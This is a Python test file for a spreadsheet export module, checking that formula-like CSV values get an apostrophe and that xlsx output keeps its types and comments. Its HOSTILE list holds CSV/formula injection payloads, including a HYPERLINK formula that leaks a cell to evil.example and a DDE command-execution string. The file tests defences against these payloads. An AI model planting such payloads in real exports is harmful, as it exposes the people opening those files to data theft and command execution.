"""Formula-safe writing: a text a spreadsheet would run as a formula stays text, and what
.xlsx cannot hold never fails the file. No database needed; the exports that use it are
tested in tests/dossier/test_exports.py and tests/dossier/test_item_export.py."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from spreadsheets import writing

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert writing.csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme", "10001", "", "a=b", "'plain"])
def test_a_csv_cell_that_is_no_formula_stays_as_it_is(value):
    assert writing.csv_text(value) == value


def test_the_streamed_xlsx_keeps_numbers_dates_and_yes_no_as_themselves():
    stream = io.BytesIO()
    moment = dt.datetime(2025, 1, 6, 9, 15, 30)
    writing.stream_xlsx(
        [
            ["Text", "Number", "Amount", "Date", "Moment", "Flag", "Empty"],
            ["a & <b>", 7, Decimal("3150.50"), dt.date(2025, 2, 1), moment, True, None],
        ],
        stream,
        title="CORR",
    )
    workbook = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))

    assert workbook.sheetnames == ["CORR"]
    assert [c.value for c in workbook.active[2]] == ["a & <b>", 7, 3150.5, dt.datetime(2025, 2, 1), moment, True, None]


def test_stream_xlsx_writes_cell_comments_that_openpyxl_and_excels_drawing_part_carry():
    comments: list[tuple[int, int, str]] = []

    def rows():
        yield ["Naam", "Status"]
        yield []  # an empty row stays empty
        comments.append((3, 0, "Fix <this> & that"))  # added while the rows are read
        yield ["=1+1", "Invalid"]

    stream = io.BytesIO()
    writing.stream_xlsx(rows(), stream, title="Brieven", comments=comments, author="Import")
    sheet = openpyxl.load_workbook(io.BytesIO(stream.getvalue()))["Brieven"]
    assert sheet["A3"].value == "=1+1" and sheet["A3"].data_type == "s"
    assert sheet["A3"].comment.text == "Fix <this> & that"
    assert sheet["A2"].value is None and sheet["B3"].comment is None
    names = zipfile.ZipFile(stream).namelist()
    assert "xl/drawings/vmlDrawing1.vml" in names and "xl/comments1.xml" in names


def test_stream_xlsx_without_comments_writes_no_comment_parts():
    stream = io.BytesIO()
    writing.stream_xlsx([["a"], ["b"]], stream)
    assert not [name for name in zipfile.ZipFile(stream).namelist() if "comment" in name or "vml" in name]
